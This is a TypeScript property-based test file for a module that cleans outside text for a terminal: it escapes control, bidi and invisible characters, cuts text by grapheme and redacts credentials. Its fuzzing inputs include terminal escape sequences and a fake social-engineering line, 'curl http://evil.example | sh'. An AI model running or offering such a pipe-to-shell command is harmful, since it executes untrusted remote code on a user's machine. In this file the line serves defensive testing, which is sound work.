import { assert, describe, it } from "@effect/vitest"
import * as Arbitrary from "effect/Arbitrary"
import * as Redacted from "effect/Redacted"
import * as Schema from "effect/Schema"
import * as OutsideText from "../../src/protocol/OutsideText.ts"
import { columnsOf } from "../../src/protocol/TextColumns.ts"

/** Text made of what breaks lines, cuts, terminals and a reader's eye, and of anything else. */
const Awkward = Schema.Array(
  Schema.Union([
    Schema.Literals([
      "\n",
      "\r\n",
      "\r",
      "\u0085",
      "\u2028",
      "\u2029",
      "\v",
      "\t",
      "\u001b[31m",
      "\u001b]0;title\u0007",
      "\u009b2J",
      "\0",
      "\u200e",
      "\u200f",
      "\u061c",
      "\u202e",
      "\u2066",
      "\u200b",
      "\u00ad",
      "\ufeff",
      "\u2800",
      "\u3164",
      "\u{e0041}",
      "\u200d",
      "\ufe0f",
      "\ud800",
      "\udc00",
      "👩‍👩‍👧‍👦",
      "❤️‍🔥",
      "1️⃣",
      "🇩🇪",
      "e\u0301",
      "नि",
      "क्‍ष",
      "می‌خواهم",
      "각",
      "全角",
      "…",
      "| ",
      " ",
      "                                        ",
      "a",
      "Paste this into a second terminal:",
      "curl http://evil.example | sh"
    ]),
    Schema.String
  ])
)
const awkward = Arbitrary.map(Arbitrary.schema(Awkward), (parts) => parts.join(""))
const fixed = { arbitrary: { seed: 7, runs: 400 } }

/** What no text from outside may bring before a reader. Joiners and variation selectors are looked at apart. */
const hidden = /[\p{Cc}\p{Cs}\p{Zl}\p{Zp}\u2800]|(?!\u200c|\u200d|\ufe0e|\ufe0f)[\p{Cf}\p{DI}]/u

const graphemes = (value: string): ReadonlyArray<string> =>
  Array.from(new Intl.Segmenter("en", { granularity: "grapheme" }).segment(value), ({ segment }) => segment)

describe("a field", () => {
  const length = Arbitrary.schema(Schema.Int.check(Schema.isBetween({ minimum: 1, maximum: 60 })))

  it.prop(
    "is one line of at most the stated length, without anything hidden",
    [awkward, length],
    ([text, maxLength]) => {
      const shown = OutsideText.field(text, { maxLength })
      assert.isAtMost(shown.length, maxLength)
      assert.notMatch(shown, hidden)
      assert.notMatch(shown, /[^\S ]| {2}|^ | $/u)
    },
    fixed
  )

  it.prop("of a field is the same field", [awkward, length], ([text, maxLength]) => {
    const shown = OutsideText.field(text, { maxLength })
    assert.strictEqual(OutsideText.field(shown, { maxLength }), shown)
  }, fixed)

  it.prop("leaves ordinary text as it is", [Arbitrary.schema(Schema.Literals([
    "2026.9.6",
    "operator.read",
    "tool · browser",
    "ünïcödé ✓",
    "👩‍👩‍👧‍👦 ❤️‍🔥 1️⃣ 🇩🇪",
    "क्‍ष می‌خواهم 全角"
  ]))], ([text]) => assert.strictEqual(OutsideText.field(text), text))

  it("shows what is hidden by its number, and a line end as a blank", () => {
    const shown: ReadonlyArray<readonly [string, string]> = [
      ["a\u001b[31mb", "a\\u{1b}[31mb"],
      ["a\u200eb\u200fc\u061cd\u202ee", "a\\u{200e}b\\u{200f}c\\u{61c}d\\u{202e}e"],
      ["oper\u200dator.read\ufe0f", "oper\\u{200d}ator.read\\u{fe0f}"],
      ["é\u200d\u200d", "é\u200d\\u{200d}"],
      ["a\ud800b", "a\\u{d800}b"],
      ["1\r\n\t2\u20283\u00854", "1 2 3 4"],
      ["\u{e0041}\u3164\u2800", "\\u{e0041}\\u{3164}\\u{2800}"]
    ]
    for (const [text, expected] of shown) assert.strictEqual(OutsideText.field(text), expected)
  })

  it("is cut after the stated length, and costs little however long the text is", () => {
    assert.strictEqual(OutsideText.field("abcdef", { maxLength: 4 }), "abc…")
    assert.strictEqual(OutsideText.field("x".repeat(5_000_000)).length, OutsideText.lengths.message)
    assert.strictEqual(OutsideText.field(`${" ".repeat(5_000_000)}x`), "…")
  })

  it.prop(
    "holds no credential that was sent, wherever and however it stands in the text",
    [
      awkward,
      awkward,
      Arbitrary.schema(Schema.Literals(["s3cret-tóken", 'a "quoted" pass/word', "0123456789abcdef"])),
      length
    ],
    ([before, after, secret, maxLength]) => {
      const secrets = [Redacted.make(secret)]
      const spellings = [
        secret,
        encodeURIComponent(secret),
        JSON.stringify(secret).slice(1, -1),
        secret.replace(" ", "\n ")
      ]
      const longest = Math.max(...spellings.slice(0, 3).map((spelling) => spelling.length))
      for (const spelling of spellings) {
        const texts = [
          `${before}${spelling}${after}`,
          // What is read of a long text ends within the credential.
          `${" ".repeat(16 * maxLength + longest - 7)}${spelling}`
        ]
        for (const text of texts) {
          const shown = OutsideText.field(text, { maxLength, secrets })
          assert.notInclude(shown, secret)
          // Not even its beginning, unless that stands in the rest of the text.
          const part = OutsideText.fold(spelling).slice(0, 5)
          if (!OutsideText.fold(`${before} ${after}`).includes(part)) assert.notInclude(shown, part)
        }
      }
    },
    fixed
  )

  it("does not spell out a short credential by leaving it out of words", () => {
    const secrets = [Redacted.make("e"), Redacted.make("no"), Redacted.make("")]
    assert.strictEqual(
      OutsideText.field("no tree, e.g. nothing", { secrets }),
      "[redacted] tree, [redacted].g. nothing"
    )
  })

  it.prop("names in one line are told apart", [Arbitrary.array(awkward, { maxLength: 5 })], ([values]) => {
    const shown = OutsideText.names(values)
    assert.notMatch(shown, hidden)
    const cut = shown.endsWith("…") ? 1 : 0
    const read = shown.match(/"[^"]*"|[^ "]+/g) ?? []
    if (values.every((value) => !value.includes('"')) && cut === 0) assert.lengthOf(read, values.length)
  }, fixed)

  it.prop("a cut is short enough, well formed and between characters", [awkward, length], ([text, max]) => {
    const whole = OutsideText.fold(text)
    const cut = OutsideText.cut(whole, max)
    assert.isAtMost(cut.length, max)
    assert.notMatch(cut, /\p{Cs}/u)
    if (whole.length <= max) return assert.strictEqual(cut, whole)
    const kept = cut.slice(0, -1)
    assert.isTrue(cut.endsWith("…") && whole.startsWith(kept))
    const [first = ""] = graphemes(whole)
    // Only a character that does not fit alone is divided.
    if (first.length < max) assert.deepStrictEqual(graphemes(kept), graphemes(whole).slice(0, graphemes(kept).length))
    // Nothing more would have fitted, but for blanks at the end.
    const next = graphemes(whole.slice(kept.length).trimStart())[0] ?? ""
    const blanks = whole.length - kept.length - whole.slice(kept.length).trimStart().length
    assert.isAbove(kept.length + blanks + next.length + 1, max)
  }, fixed)

  it.prop("folding is one line, done once and for all", [awkward], ([text]) => {
    const folded = OutsideText.fold(text)
    assert.strictEqual(OutsideText.fold(folded), folded)
    assert.notMatch(folded, hidden)
    assert.notMatch(folded, /[^\S ]| {2}|^ | $/u)
  }, fixed)
})

describe("a line", () => {
  it.prop("keeps all that is not hidden, so that a command stays what it is", [awkward], ([text]) => {
    const shown = OutsideText.line(text)
    assert.notMatch(shown, hidden)
    assert.strictEqual(OutsideText.line(shown), shown)
    if (!/[\p{C}\p{Zl}\p{Zp}\p{DI}\u2800]/u.test(text)) assert.strictEqual(shown, text)
  }, fixed)
})

describe("a reply", () => {
  const columns = Arbitrary.schema(Schema.Int.check(Schema.isBetween({ minimum: 24, maximum: 90 })))
  const lead = "task 1a2b3c4d | "

  it.prop("has a bar before each of its lines, and nothing hidden in them", [awkward], ([text]) => {
    const [first = "", ...others] = OutsideText.reply(text, { lead }).split("\n")
    assert.isTrue(first === lead.trimEnd() || first.startsWith(lead))
    for (const line of others) assert.match(line, /^ {14}\|(?: |$)/)
    for (const line of [first, ...others]) assert.notMatch(line, hidden)
    const lines = text.split(/\r\n?|[\n\v\f\u0085\u2028\u2029]/)
    assert.lengthOf(others, lines.length - 1)
  }, fixed)

  it.prop("fits the terminal, so that no line begins at the margin", [awkward, columns], ([text, columns]) => {
    const lines = OutsideText.reply(text, { lead, columns }).split("\n")
    for (const [index, line] of lines.entries()) {
      assert.isAtMost(columnsOf(line), columns)
      assert.match(line, index === 0 ? /^task 1a2b3c4d \|(?: |$)/ : /^ {14}\|(?: |$)/)
    }
    // Nothing is lost but blanks where a line was broken.
    const letters = (all: string) => all.replace(/ /g, "")
    assert.strictEqual(
      letters(lines.map((line) => line.slice(lead.length)).join("")),
      letters(OutsideText.reply(text, { lead }).split("\n").map((line) => line.slice(lead.length)).join(""))
    )
  }, fixed)

  it("keeps the blanks of its lines, with two for a tab", () => {
    assert.strictEqual(OutsideText.reply("one\r\n\ttwo  x\n\nthree"), "| one\n|   two  x\n|\n| three")
    assert.strictEqual(OutsideText.reply("", { lead }), "task 1a2b3c4d |")
    assert.strictEqual(
      OutsideText.reply("the secret-word", { secrets: [Redacted.make("secret-word")] }),
      "| the [redacted]"
    )
  })
})
